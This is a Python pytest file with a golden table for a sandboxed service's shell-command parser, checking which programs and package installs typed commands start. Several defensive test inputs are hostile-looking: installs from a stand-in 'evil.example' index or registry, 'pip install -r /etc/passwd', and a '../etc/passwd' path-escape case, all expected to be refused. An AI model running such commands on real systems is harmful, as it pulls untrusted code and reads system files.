"""Golden table for the command reader: what a typed command starts and installs, as the server sees it."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from cloche.service import commands
from cloche.service.command_lexer import in_workspace, split
from cloche.service.commands import UV_RUN_VALUED, ParsedCommand, parse


def summary(parsed: ParsedCommand) -> list[str] | None:
    """One line per intent: ``run <language> <path>[ -m module][ (package)] [args]`` or ``install ...``."""
    if not parsed.understood:
        return None
    lines: list[tuple[int, str]] = []
    for e in parsed.entries:
        what = f"-m {e.module} in {e.path or '.'}" if e.module else (f"{e.path or '.'}/" if e.package else e.path)
        if e.code is not None:
            what = f"-c {e.code!r} in {e.path.rpartition('/')[0] or '.'}"
        args = f" {list(e.args)}" if e.args else ""
        lines.append((e.segment, f"run {e.language} {what}{args}"))
    for i in parsed.installs:
        verb = "remove" if i.remove else "install"
        parts = [*i.requirements, *(f"-r {f}" for f in i.requirement_files), *(f"-c {f}" for f in i.constraint_files)]
        if i.refused:
            parts.append(f"refused={len(i.refused)}")
        lines.append((i.segment, " ".join([verb, i.ecosystem, *parts])))
    return [line for _, line in sorted(lines)]


GOLDEN: list[tuple[str, list[str] | None]] = [
    # programs that start code
    ("python main.py", ["run python main.py"]),
    ("python3 main.py", ["run python main.py"]),
    ("python3.11 -u main.py arg --flag", ["run python main.py ['arg', '--flag']"]),
    ("python -uB -W ignore -X dev tool.py", ["run python tool.py"]),
    ("python -Wignore app/run.py", ["run python app/run.py"]),
    ("python3 -m pkg.mod --x 1", ["run python -m pkg.mod in . ['--x', '1']"]),
    ("python -mhttp.server", ["run python -m http.server in ."]),
    ("/usr/bin/python3 ./scripts/../main.py", ["run python main.py"]),
    ("python -c 'import humanize'", ["run python -c 'import humanize' in ."]),
    ("cd tools && python3 -uc 'import yaml' a b", ["run python -c 'import yaml' in tools ['a', 'b']"]),
    ("python -c", []),
    ("python", []),
    ("python - < script.py", []),
    ("node app.js", ["run node app.js"]),
    ("node --require ./setup.js --enable-source-maps src/index.mjs a", ["run node src/index.mjs ['a']"]),
    ("node -e 'console.log(1)'", []),
    ("go run .", ["run go ./"]),
    ("go run -tags x ./cmd/tool arg", ["run go cmd/tool/ ['arg']"]),
    ("go run main.go util.go -v", ["run go main.go ['-v']"]),
    ("go run github.com/x/y@latest", []),
    ("go test ./...", []),
    ("java Main.java a b", ["run java Main.java ['a', 'b']"]),
    ("java -cp lib/x.jar src/Main.java", ["run java src/Main.java"]),
    ("java -jar app.jar", []),
    ("java Main", []),
    # wrappers and the shell around them
    ("cd app && python main.py", ["run python app/main.py"]),
    ("cd /sandbox/app; python main.py", ["run python app/main.py"]),
    ("cd app && cd .. && python main.py", ["run python main.py"]),
    ("cd /tmp && python main.py", []),
    ("cd $HOME && python main.py", []),
    ("FOO=1 BAR='a b' python main.py", ["run python main.py"]),
    ("env -u X FOO=1 python3 main.py", ["run python main.py"]),
    ("timeout 10 python main.py", ["run python main.py"]),
    ("timeout -s KILL --preserve-status 5s python3 -u main.py", ["run python main.py"]),
    ("time python main.py", ["run python main.py"]),
    ("nice -n 5 nohup python main.py &", ["run python main.py"]),
    ("uv run main.py", ["run python main.py"]),
    ("uv run --with rich python main.py", ["run python main.py"]),
    ("python a.py && python b.py", ["run python a.py", "run python b.py"]),
    ("python gen.py | node consume.js > out.txt 2>&1", ["run python gen.py", "run node consume.js"]),
    ("python main.py 2> err.log arg", ["run python main.py ['arg']"]),
    ("python main.py # python other.py", ["run python main.py"]),
    ("python main.py\npython other.py", ["run python main.py", "run python other.py"]),
    ("echo 'python main.py'", []),
    ("python $SCRIPT", []),
    ("python *.py", []),
    # shell structure that is not read: it runs as typed
    ("python $(ls *.py)", None),
    ("for f in a b; do python $f.py; done", None),
    ("(cd app && python main.py)", None),
    ("{ python main.py; }", None),
    ("if true; then python main.py; fi", None),
    ("cat <<EOF > x.py\nprint(1)\nEOF", None),
    ("python 'unbalanced.py", None),
    ("echo `date`", None),
    # installs the server performs
    ("pip install humanize", ["install python humanize"]),
    ("pip3 install -q humanize==4.9.0 'rich>=13'", ["install python humanize==4.9.0 rich>=13"]),
    ("python -m pip install --upgrade humanize", ["install python humanize"]),
    ("python3 -m pip install -r requirements.txt", ["install python -r requirements.txt"]),
    ("cd app && pip install -rreqs.txt -c constraints.txt", ["install python -r app/reqs.txt -c app/constraints.txt"]),
    ("pip install --user --no-cache-dir --upgrade-strategy eager x", ["install python x"]),
    ("uv pip install humanize", ["install python humanize"]),
    ("uv add humanize", ["install python humanize"]),
    ("pip install --index-url https://evil.example/simple x", ["install python x refused=1"]),
    ("pip install --extra-index-url=https://evil.example/simple x", ["install python x refused=1"]),
    ("pip install -e .", ["install python"]),
    ("pip install ./dist/x.whl", ["install python refused=1"]),
    ("pip install git+https://github.com/x/y", ["install python refused=1"]),
    ("pip install -r /etc/passwd", ["install python refused=1"]),
    ("pip uninstall -y humanize", ["remove python humanize"]),
    ("pip list", []),
    ("pip freeze > requirements.txt", []),
    ("npm install left-pad", ["install node left-pad"]),
    ("npm i -D left-pad@1.3.0 @types/node@^20", ["install node left-pad@1.3.0 @types/node@^20"]),
    ("npm install", ["install node"]),
    ("npm install --registry https://evil.example x", ["install node x refused=1"]),
    ("npm install github:user/repo", ["install node refused=1"]),
    ("npm run build", []),
    ("yarn add chalk", ["install node chalk"]),
    ("pip install humanize && python main.py", ["install python humanize", "run python main.py"]),
]


@pytest.mark.parametrize(("command", "expected"), GOLDEN, ids=[c for c, _ in GOLDEN])
def test_golden(command: str, expected: list[str] | None) -> None:
    assert summary(parse(command)) == expected


def test_only_installs() -> None:
    assert parse("pip install a && pip3 install b").only_installs
    assert not parse("pip install a && python main.py").only_installs
    assert not parse("python main.py").only_installs
    assert not parse("pip list").only_installs


def test_rewrite_keeps_the_rest_byte_for_byte() -> None:
    command = 'pip install x 2>&1 && FOO="$HOME" python main.py | tee "out $1.txt"'
    parsed = parse(command)
    assert parsed.rewritten({0: ":"}) == ': 2>&1 && FOO="$HOME" python main.py | tee "out $1.txt"'


def test_rewrite_moves_redirections_typed_mid_command_to_the_end() -> None:
    parsed = parse("go run . 2>/dev/null arg; echo done")
    assert parsed.rewritten({0: "runner arg"}) == "runner arg 2>/dev/null; echo done"


def test_spans_exclude_operators_comments_and_blanks() -> None:
    command = "  a 'b c'  >out && d # e"
    found = split(command)
    assert found is not None
    assert [(s.words, command[s.start : s.end], s.after, s.redirections) for s in found] == [
        (("a", "b c"), "a 'b c'  >out", "&&", (">out",)),
        (("d",), "d", "", ()),
    ]


@pytest.mark.parametrize(
    ("cwd", "path", "expected"),
    [
        ("", "main.py", "main.py"),
        ("app", "../main.py", "main.py"),
        ("", "../etc/passwd", None),
        ("app", "/sandbox", ""),
        ("app", "/sandboxes/x", None),
        ("", ".", ""),
    ],
)
def test_in_workspace(cwd: str, path: str, expected: str | None) -> None:
    assert in_workspace(cwd, path) == expected


def test_the_jail_uv_skips_the_same_run_options() -> None:
    shim = Path(commands.__file__).parents[1] / "ecosystems" / "python" / "jail_tools" / "uv"
    case = shim.read_text().split('case "$1" in', 1)[1].split("shift 2", 1)[0]
    assert set(re.findall(r"(--?[a-z-]+)", case)) == set(UV_RUN_VALUED)
